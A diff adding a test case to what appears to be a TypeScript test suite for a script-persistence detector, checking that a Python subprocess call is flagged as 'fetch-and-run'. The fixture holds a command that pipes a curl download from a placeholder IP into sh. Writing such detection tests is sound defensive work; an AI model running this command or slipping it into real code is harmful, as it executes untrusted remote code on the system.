@@ -133,6 +133,12 @@ describe('scripts', () => {
     expect(signs(readEntry(scriptFact(lines)))).toContain('fetch-and-run');
   });
 
+  test('named arguments of Python are no part of the command', () => {
+    const lines =
+      'import subprocess\nsubprocess.Popen("curl -s http://192.0.2.1/a | sh", shell=True, cwd="/tmp")';
+    expect(signs(readEntry(scriptFact(lines, { language: 'python' })))).toContain('fetch-and-run');
+  });
+
   const languages: readonly (readonly [PersistenceFact['language'], string, string | undefined])[] = [
     [
       'python',
